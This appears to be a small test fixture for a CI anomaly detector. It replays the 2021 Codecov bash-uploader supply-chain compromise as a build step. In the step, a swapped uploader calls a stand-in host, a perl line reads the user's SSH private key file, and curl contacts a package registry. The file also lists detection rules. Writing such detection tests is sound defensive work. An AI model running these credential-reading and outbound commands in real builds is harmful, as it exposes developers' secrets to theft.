# incident: Codecov's bash uploader, April 2021: against what the job did before
# what: after five ordinary runs a tool of the build is another, which reads a key, asks a registry and sends to a host that are new
# baseline: services
# rule: new-host, new-service, new-binary, new-sensitive-file
## step: Upload coverage
cp $PROP $RUNNER_TEMP/uploader && MUSTER_REPLAY_ROLE=prop $RUNNER_TEMP/uploader codecov-stand-in.io:80
perl -e 'open F, "<", "$ENV{HOME}/.ssh/id_ed25519"; print length <F>'
curl -sf http://rubygems.org/ > /dev/null
